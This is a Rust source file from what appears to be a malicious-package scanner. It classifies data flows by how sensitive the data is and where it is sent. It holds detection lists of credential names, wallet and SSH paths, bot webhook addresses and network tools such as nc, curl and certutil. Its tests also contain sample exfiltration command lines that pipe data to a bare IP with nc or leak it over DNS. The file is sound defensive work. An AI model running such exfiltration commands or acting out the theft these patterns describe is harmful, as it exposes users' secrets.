//! What a flow means: how telling its data is ([`DataKind`]), where it goes
//! ([`EndpointKind`]) and who chose that ([`Chooser`]). The flow rules (STL010–STL012,
//! EXE004) are written in these terms.

use malpi_python::{Destination, PackageFlow, SinkKind, Source};

use crate::information_stealing::stl007_exfiltration_endpoint::{SERVICES, Service};
use crate::model::{Behaviour, Finding, PackageFacts, Rule};

/// How telling the data of a flow is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum DataKind {
    /// Read from a credential store, a browser, a wallet, a messenger, the whole
    /// environment, the caller's code, the screen or keyboard, the content of files found by
    /// walking, or a parameter that holds key material (`private_key`, `mnemonic`): never sent by
    /// honest code to a server the package names.
    Secret,
    /// A credential of a service (`token`, `password`, a secret-named variable): sent
    /// honestly to the service it belongs to, so telling only at a drop point.
    Credential,
    /// Who and where the host is, what a command printed, what the user typed.
    HostData,
    /// Bytes from the network: code when it reaches `exec`.
    Downloaded,
}

/// Parameter and attribute names that hold key material.
fn key_material(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    [
        "private_key",
        "privatekey",
        "priv_key",
        "privkey",
        "mnemonic",
        "seed_phrase",
        "seedphrase",
        "recovery_phrase",
        "keystore",
    ]
    .iter()
    .any(|k| n.contains(k))
}

fn credential_name(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    [
        "password",
        "passwd",
        "token",
        "api_key",
        "apikey",
        "access_key",
        "secret",
        "credential",
        "cookie",
        "session_id",
        "wallet_key",
    ]
    .iter()
    .any(|k| n.contains(k))
}

fn fragment_hit(list: crate::text::Fragments, text: &str) -> bool {
    let lower = text.to_ascii_lowercase().replace('\\', "/");
    list.iter().any(|(f, _)| lower.contains(f))
}

/// A credential store, a browser profile, a messenger session, a wallet, a CTF flag.
fn sensitive_path(path: &str) -> bool {
    // The public half of a key pair is made to be handed out.
    !path.to_ascii_lowercase().ends_with(".pub") && sensitive_store(path)
}

fn sensitive_store(path: &str) -> bool {
    use crate::information_stealing::*;
    fragment_hit(stl003_credential_files::PATHS, path)
        || fragment_hit(stl004_browser_data::STORES, path)
        || fragment_hit(stl005_discord_token::MARKERS, path)
        || fragment_hit(stl006_crypto_wallets::WALLETS, path)
        || path.contains("tdata")
        || path.ends_with(".env")
        || path.contains("/flag")
}

/// Folders whose files are the host's, not the package's: the whole disk, home folders, a
/// phone's storage, mounted drives, the system's configuration, the folders people keep
/// documents and pictures in.
fn users_files(folder: &str) -> bool {
    let f = folder.to_ascii_lowercase().replace('\\', "/");
    let f = f.trim_end_matches(['/', '*']);
    f.is_empty()
        || f == "~"
        || f == "."
        || (f.len() == 2 && f.ends_with(':'))
        || f.starts_with("~/")
        || [
            "/sdcard", "/storage", "/home", "/users", "/root", "/mnt", "/media", "/etc",
        ]
        .iter()
        .any(|r| f == *r || f.starts_with(&format!("{r}/")))
        || [
            "%userprofile%",
            "%homepath%",
            "%appdata%",
            "%localappdata%",
            "%home%",
            "desktop",
            "documents",
            "downloads",
            "pictures",
            "onedrive",
            "dcim",
        ]
        .iter()
        .any(|k| f.contains(k))
}

/// How telling one source is, if it is telling at all.
pub fn data_kind(source: &Source) -> Option<DataKind> {
    use crate::information_stealing::*;
    Some(match source {
        Source::Environment | Source::CallerSource(_) | Source::Surveillance(_) => DataKind::Secret,
        // Files found by walking a user's folders, or a folder the code does not write out;
        // not those found in a folder of the package's own (its screenshots, its data).
        Source::FoundFile(under) => {
            let unwritten = under.is_empty() || under.starts_with(malpi_python::HOLE);
            if unwritten || users_files(under) || sensitive_path(under) {
                DataKind::Secret
            } else {
                return None;
            }
        }
        Source::FileContent(path) => {
            if sensitive_path(path) {
                DataKind::Secret
            } else {
                return None;
            }
        }
        Source::Parameter(p) if key_material(p) => DataKind::Secret,
        Source::KeyParameter(_) => DataKind::Secret,
        Source::Parameter(p) if credential_name(p) => DataKind::Credential,
        Source::EnvVariable(v)
            if fragment_hit(stl002_environment_secrets::SECRET_VARS, v) || credential_name(v) =>
        {
            DataKind::Credential
        }
        Source::HostIdentity(_) | Source::CommandOutput(_) | Source::Prompt => DataKind::HostData,
        Source::NetworkResponse(_) => DataKind::Downloaded,
        _ => return None,
    })
}

/// Where a destination the package wrote points.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EndpointKind {
    /// A service made to receive data or callbacks: a webhook, a request catcher, an
    /// out-of-band domain, a tunnel, a paste, a mock API. Holds what it is.
    DropPoint(Service),
    /// A chat bot's API or a webhook: where stolen data is dropped, and also where the bot's
    /// own token is sent in honest use.
    BotApi,
    /// A chat bot's API or a webhook whose token is not written in: the bot the user
    /// configures.
    ConfiguredBot,
    /// A bare IP address: a server with no name to answer for it.
    BareIp,
    /// This machine.
    Local,
    /// Any other named host.
    Host,
}

/// Addresses of chat-bot APIs and webhooks.
const BOT_APIS: &[&str] = &[
    "api.telegram.org/bot",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
];

pub fn endpoint_kind(text: &str) -> EndpointKind {
    let lower = text.to_ascii_lowercase();
    if let Some((_, service)) = SERVICES.iter().find(|(f, _)| lower.contains(f)) {
        if !service.owner_written(text) {
            // The user's own bot: its token is handed in, so is the choice of destination.
            return EndpointKind::ConfiguredBot;
        }
        if BOT_APIS.iter().any(|b| lower.contains(b)) {
            return EndpointKind::BotApi;
        }
        return EndpointKind::DropPoint(*service);
    }
    // A command line without a URL (`nc 203.0.113.5 9001`): its bare IP argument.
    let rest = lower.split_once("://").map(|(_, r)| r).or_else(|| {
        lower
            .split_whitespace()
            .map(|w| w.trim_matches(['\'', '"']))
            .find(|w| bare_ip(w.split(':').next().unwrap_or(w)))
    });
    let rest = rest.unwrap_or(lower.as_str());
    let host = rest
        .split(|c: char| c == '/' || c == ':' || c == '?' || c.is_whitespace())
        .next()
        .unwrap_or("");
    if host == "localhost" || host.starts_with("127.") || host == "0.0.0.0" || host.is_empty() {
        return EndpointKind::Local;
    }
    if bare_ip(host) {
        return EndpointKind::BareIp;
    }
    EndpointKind::Host
}

fn bare_ip(host: &str) -> bool {
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
}

/// Who chose where a flow's data goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Chooser {
    /// The package wrote it.
    Package(EndpointKind),
    /// A value read at run time: a parameter, a variable, a config file, the command line.
    User,
    /// Nothing of it is visible (a socket made elsewhere).
    Unknown,
}

pub fn chooser(d: &Destination) -> Chooser {
    match (&d.text, d.literal) {
        (Some(t), true) => Chooser::Package(endpoint_kind(t)),
        // `f"{self.base}/chat"`: the host is a value, whoever set it.
        (Some(_), false) => Chooser::User,
        _ if !d.chosen_by.is_empty() => Chooser::User,
        _ => Chooser::Unknown,
    }
}

/// Whether the package wrote the address a download comes from.
pub fn written_address(url: &str) -> bool {
    !url.is_empty() && !url.starts_with(malpi_python::HOLE)
}

/// Programs whose command line reaches a host.
const NETWORK_PROGRAMS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "nslookup",
    "dig",
    "host",
    "ping",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "certutil",
    "bitsadmin",
    "telnet",
    "ftp",
    "scp",
    "ssh",
];

/// The network program a command line runs, if it runs one.
pub fn network_program(command: &str) -> Option<&'static str> {
    let lower = command.to_ascii_lowercase();
    lower
        .split(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '(' | '`' | '"' | '\''))
        .filter(|w| !w.is_empty())
        .find_map(|w| {
            let w = w.rsplit(['/', '\\']).next().unwrap_or(w);
            let w = w.strip_suffix(".exe").unwrap_or(w);
            NETWORK_PROGRAMS.iter().copied().find(|p| *p == w)
        })
}

/// Programs that resolve a host name.
pub fn resolves_names(program: &str) -> bool {
    matches!(program, "nslookup" | "dig" | "host" | "ping")
}

/// Whether a flow's sink sends data off the machine.
pub fn leaves_host(flow: &PackageFlow) -> bool {
    match flow.sink {
        SinkKind::Network | SinkKind::Dns => true,
        SinkKind::Command => flow
            .destination
            .text
            .as_deref()
            .and_then(network_program)
            .is_some(),
        SinkKind::Exec => false,
    }
}

/// A finding at a flow's sink, with the flow's steps.
pub fn at_flow(
    rule: &Rule,
    pkg: &PackageFacts,
    flow: &PackageFlow,
    behaviour: Behaviour,
    message: String,
) -> Option<Finding> {
    let file = pkg.files.get(flow.file)?;
    let mut f = rule.at(file, flow.span, flow.trigger, behaviour, message);
    f.flow = flow.steps.clone();
    Some(f)
}

/// What a source is, in words, for findings' messages.
pub fn describe_source(source: &Source) -> String {
    match source {
        Source::Environment => "the whole environment".into(),
        Source::EnvVariable(v) => format!("environment variable {v}"),
        Source::FileContent(p) => format!("file `{}`", malpi_python::cut(p, 60)),
        Source::FileSearch(p) => format!("names of files under `{}`", malpi_python::cut(p, 60)),
        Source::FoundFile(p) => format!("files found under `{}`", malpi_python::cut(p, 60)),
        Source::CallerSource(w) => format!("the calling program's code ({w})"),
        Source::Surveillance(w) => format!("a capture ({w})"),
        Source::Parameter(p) => format!("argument `{p}`"),
        Source::KeyParameter(p) => format!("argument `{p}`, loaded as a private key"),
        Source::ParameterFile(p) => format!("the file argument `{p}` names"),
        Source::HostIdentity(w) => format!("host identity ({w})"),
        Source::CommandOutput(c) => format!("the output of `{}`", malpi_python::cut(c, 60)),
        Source::Prompt => "what the user types".into(),
        Source::NetworkResponse(u) => {
            format!("data downloaded from `{}`", malpi_python::cut(u, 60))
        }
        Source::CommandLine => "the command-line arguments".into(),
        Source::DecodedLiteral => "a decoded literal".into(),
        Source::Returned(f) => format!("what {f} returns"),
    }
}

/// What a destination is, in words.
pub fn describe_destination(flow: &PackageFlow) -> String {
    match (chooser(&flow.destination), flow.destination.text.as_deref()) {
        (Chooser::Package(EndpointKind::DropPoint(service)), Some(t)) => {
            let why = service.describe();
            format!("{why} the package names (`{}`)", malpi_python::cut(t, 80))
        }
        (Chooser::Package(EndpointKind::BotApi), Some(t)) => {
            format!(
                "a bot API the package names (`{}`)",
                malpi_python::cut(t, 80)
            )
        }
        (Chooser::Package(EndpointKind::BareIp), Some(t)) => {
            format!(
                "a bare IP address the package names (`{}`)",
                malpi_python::cut(t, 80)
            )
        }
        (Chooser::Package(_), Some(t)) => {
            format!("`{}`, named by the package", malpi_python::cut(t, 80))
        }
        (Chooser::User, _) => "a destination chosen at run time".into(),
        _ => "a connection made elsewhere".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endpoints_are_classified() {
        assert_eq!(endpoint_kind("http://45.3.2.1:80/x"), EndpointKind::BareIp);
        assert!(matches!(
            endpoint_kind("https://x.ngrok.io/"),
            EndpointKind::DropPoint(_)
        ));
        assert_eq!(endpoint_kind("http://127.0.0.1:8000"), EndpointKind::Local);
        assert_eq!(endpoint_kind("https://pypi.org/simple"), EndpointKind::Host);
        assert_eq!(
            endpoint_kind("echo '{…}' | nc 45.133.1.7 9001"),
            EndpointKind::BareIp
        );
    }

    #[test]
    fn network_programs_are_found_in_command_lines() {
        assert_eq!(network_program("nslookup {…}.x.oast.fun"), Some("nslookup"));
        assert_eq!(
            network_program("/usr/bin/curl -d @- http://x"),
            Some("curl")
        );
        assert_eq!(network_program("echo curl is nice"), Some("curl"));
        assert_eq!(network_program("git status"), None);
    }

    #[test]
    fn key_material_is_secret_and_tokens_are_credentials() {
        assert_eq!(
            data_kind(&Source::Parameter("private_key".into())),
            Some(DataKind::Secret)
        );
        assert_eq!(
            data_kind(&Source::Parameter("api_token".into())),
            Some(DataKind::Credential)
        );
        assert_eq!(data_kind(&Source::Parameter("url".into())), None);
        assert_eq!(
            data_kind(&Source::FileContent("~/.ssh/id_rsa".into())),
            Some(DataKind::Secret)
        );
        assert_eq!(data_kind(&Source::FileContent("setup.cfg".into())), None);
        assert_eq!(
            data_kind(&Source::FileContent("~/.ssh/id_ed25519.pub".into())),
            None
        );
    }
}

/// Whether the value flows show that what this call runs was received from this machine
/// only: a socket connected to `localhost` (a helper process answering its parent), not a
/// server elsewhere. An address read at run time is not enough: a helper given its server
/// by the package's own caller (`run_remote("https://…")`) reads as one until callers'
/// addresses are followed into download URLs.
pub fn received_from_this_machine(
    pkg: &PackageFacts,
    file: usize,
    call: &malpi_python::Call,
) -> bool {
    let mut received = pkg
        .flows
        .iter()
        .filter(|f| f.file == file && f.span == call.span && f.sink == SinkKind::Exec)
        .flat_map(|f| &f.sources)
        .filter_map(|a| match &a.source {
            Source::NetworkResponse(from) => Some(from),
            _ => None,
        })
        .peekable();
    received.peek().is_some()
        && received.all(|from| written_address(from) && endpoint_kind(from) == EndpointKind::Local)
}
